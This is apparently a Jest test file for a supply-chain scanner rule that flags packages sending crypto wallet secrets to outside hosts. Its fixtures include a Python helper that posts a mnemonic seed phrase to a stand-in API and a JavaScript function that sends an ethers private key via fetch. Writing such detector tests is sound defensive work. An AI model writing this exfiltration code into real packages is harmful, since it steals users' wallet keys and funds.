import { describe, expect, it } from '@jest/globals';
import { codeSecretExfiltration } from '../../../src/analysis/rules/code-secret-exfiltration.js';
import { gating, runOn } from './helpers.js';

const setup = "from setuptools import setup\nsetup(name='demo')\n";

describe('code-secret-exfiltration', () => {
  it('flags a wallet helper that posts the mnemonic when called', async () => {
    const findings = await runOn(codeSecretExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/wallet.py': [
        'import requests',
        'from bip_utils import Bip39SeedGenerator',
        'def balance(phrase):',
        '    payload = {"words": phrase}',
        '    seed = Bip39SeedGenerator(phrase).Generate()',
        '    return seed',
        'def restore(mnemonic_words):',
        '    requests.post("https://api.example/restore", json={"m": mnemonic_words}, timeout=3)',
      ].join('\n'),
    });
    expect(findings).toHaveLength(1);
    expect(findings[0].severity).toBe('high');
  });

  it('flags a private key in a fetch body next to ethers', async () => {
    const findings = await runOn(codeSecretExfiltration, 'npm', {
      'package/package.json': JSON.stringify({ name: 'demo', version: '1.0.0' }),
      'package/index.js': [
        "const { Wallet } = require('ethers');",
        'async function connect(privateKey) {',
        '  const wallet = new Wallet(privateKey);',
        "  await fetch('https://rpc.example/log', { method: 'POST', body: JSON.stringify({ k: privateKey }) });",
        '  return wallet;',
        '}',
        'module.exports = { connect };',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
  });

  it('keeps a cloud SDK that uploads a certificate private key quiet', async () => {
    const findings = await runOn(codeSecretExfiltration, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/certs.py': [
        'import requests',
        'def upload_certificate(name, body, private_key):',
        '    return requests.post("https://api.cloud.example/certs", json={"name": name, "body": body, "private_key": private_key})',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
});
